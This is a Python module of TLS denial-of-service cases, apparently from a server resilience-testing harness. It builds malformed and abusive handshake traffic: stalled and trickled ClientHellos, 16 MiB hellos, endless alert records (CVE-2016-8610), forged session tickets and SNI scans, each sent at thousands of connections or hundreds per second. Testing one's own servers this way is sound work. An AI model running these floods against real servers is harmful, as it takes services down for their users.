"""Abuse of TLS handshakes, octets to the TLS port."""

import os
import ssl
from functools import lru_cache

import hellos
from case import HOST, Case, Script


@lru_cache
def _context() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def stall() -> Script:
    return Script(hellos.client_hello(HOST))


def silent() -> Script:
    return Script(b"")


def trickled() -> Script:
    """A ClientHello an octet a second."""
    return Script(hellos.client_hello(HOST)[:40], trickle=b"\x00")


def handshakes() -> Script:
    return Script(hellos.client_hello(HOST), hangs_up="answered")


def names() -> Script:
    return Script(lambda: hellos.of_context(_context(), hellos.random_name()), hangs_up="answered")


def garbage() -> Script:
    return Script(lambda: b"\x16\x03\x01\x02\x00" + os.urandom(512))


def no_tls() -> Script:
    return Script(b"GET / HTTP/1.1\r\nHost: " + HOST.encode() + b"\r\n\r\n")


def giant() -> Script:
    """A ClientHello that says it has 16 MiB, in records as large as they may be."""
    return Script(hellos.record(hellos.promised(2**24 - 1)), repeat=hellos.record(bytes(hellos.RECORD_MAX)) * 8)


def fragmented() -> Script:
    """The same in records of one octet."""
    return Script(hellos.fragments(hellos.promised(2**24 - 1), 1), repeat=hellos.record(b"\x00") * 8_000)


def empty_records() -> Script:
    return Script(hellos.record(hellos.promised(400)), repeat=hellos.record(b"") * 8_000)


def alerts() -> Script:
    """Warnings, which TLS 1.2 lets one send without end."""
    return Script(b"", repeat=hellos.record(b"\x01\x5a", hellos.ALERT_RECORD) * 8_000)


def tickets() -> Script:
    """Tickets that the server never gave, as large as fits, for it to try its keys on."""
    hello = hellos.client_hello(HOST, ssl.TLSVersion.TLSv1_2)
    return Script(lambda: hellos.with_extension(hello, hellos.SESSION_TICKET, os.urandom(12_000)), hangs_up="answered")


def _case(name, title, script, known_as="", **further) -> Case:
    return Case(name, title, "TLS", script, "tls", known_as, **further)


MANY = {"connections": 4_000, "addresses": 8, "pause_s": 1.0, "at_least_s": 14}

CASES = (
    _case("tls_silent", "4,000 connections that never begin", silent, "", **MANY),
    _case("tls_stall", "4,000 handshakes that stop after the ClientHello", stall, "", **MANY),
    _case("tls_trickled", "1,000 ClientHellos of an octet a second", trickled, "", **{**MANY, "connections": 1_000}),
    _case("tls_handshakes", "300 handshakes a second, ended when the server has signed", handshakes, "THC-SSL-DOS", rate=300),
    _case("tls_names", "300 handshakes a second for names that there are not", names, "SNI scan", rate=300),
    _case("tls_garbage", "500 connections a second of noise", garbage, "", rate=500),
    _case("tls_plaintext", "500 connections a second of HTTP in clear text", no_tls, "", rate=500),
    _case("tls_giant_hello", "a ClientHello of 16 MiB", giant),
    _case("tls_fragments", "the same in records of one octet", fragmented),
    _case("tls_empty_records", "a ClientHello interrupted by empty records", empty_records),
    _case("tls_alerts", "warnings without end", alerts, "CVE-2016-8610"),
    _case("tls_tickets", "300 handshakes a second with forged tickets of 12 KB", tickets, "", rate=300),
)
